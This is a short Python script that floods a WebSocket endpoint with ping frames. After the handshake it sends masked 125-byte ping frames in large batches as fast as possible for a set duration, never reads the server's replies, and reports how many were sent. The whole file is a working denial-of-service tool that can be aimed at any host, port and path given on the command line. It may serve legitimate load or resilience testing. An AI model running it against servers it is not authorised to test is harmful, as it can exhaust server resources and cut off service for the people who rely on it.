#!/usr/bin/env python3
# Ping flood against a WebSocket endpoint: handshake, then masked 125-byte pings as fast as
# possible, never reading. Usage: ping_flood.py HOST PORT PATH SECONDS
import socket, sys, time, os, base64, struct
host, port, path, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
s = socket.create_connection((host, port))
key = base64.b64encode(os.urandom(16)).decode()
s.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n").encode())
resp = b""
while b"\r\n\r\n" not in resp:
    resp += s.recv(4096)
print(resp.split(b"\r\n")[0].decode(), flush=True)
payload = os.urandom(125)
mask = os.urandom(4)
frame = bytes([0x89, 0x80 | 125]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
batch = frame * 512
sent = 0
end = time.time() + secs
s.settimeout(1.0)
while time.time() < end:
    try:
        sent += s.send(batch)
    except socket.timeout:
        continue
    except OSError as e:
        print("send failed:", e, flush=True)
        break
print(f"sent {sent} bytes = {sent // len(frame)} pings", flush=True)
